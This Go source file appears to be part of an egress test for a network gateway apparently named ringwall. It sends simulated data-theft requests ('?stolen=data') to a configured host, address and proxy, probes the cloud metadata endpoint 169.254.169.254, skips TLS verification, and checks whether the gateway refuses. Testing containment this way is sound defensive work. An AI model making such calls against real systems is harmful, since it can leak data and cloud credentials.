//go:build linux

package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

func networkAttempts(opt options) []attempt {
	byName := "https://" + opt.toHost + "/?stolen=data"
	all := []attempt{
		{"call-host", "send data to " + opt.toHost, call(byName, nil)},
		{"call-address", "send data to " + opt.toAddress, call("https://"+opt.toAddress+"/?stolen=data", nil)},
		{"call-metadata", "ask the cloud's metadata service", call("http://169.254.169.254/latest/meta-data/", nil)},
	}
	// Programs that follow the proxy variables take another way to the gateway.
	if os.Getenv("HTTPS_PROXY") != "" || os.Getenv("https_proxy") != "" {
		all = append(all, attempt{"call-proxy", "send data to " + opt.toHost + " through the proxy",
			call(byName, http.ProxyFromEnvironment)})
	}
	return all
}

// call sends one request. It checks no certificate: a thief does not care, and
// what counts is whether any answer comes back.
func call(target string, proxy func(*http.Request) (*url.URL, error)) func() (string, error) {
	return func() (string, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
		if err != nil {
			return "", err
		}
		client := &http.Client{Transport: &http.Transport{
			Proxy:             proxy,
			DialContext:       (&net.Dialer{Timeout: 3 * time.Second}).DialContext,
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
			DisableKeepAlives: true,
		}}
		res, err := client.Do(req)
		if err != nil {
			return "", err
		}
		defer res.Body.Close()
		return judge(res)
	}
}

// judge tells an answer of the gateway, which explains its refusal, from one
// of the host that was called.
func judge(res *http.Response) (string, error) {
	body, err := io.ReadAll(io.LimitReader(res.Body, 512))
	if err != nil {
		return "", err
	}
	if res.StatusCode >= 400 && strings.HasPrefix(string(body), "ringwall refused") {
		return "", fmt.Errorf("the gateway answers %s: %s", res.Status, body)
	}
	return "the answer is " + res.Status, nil
}
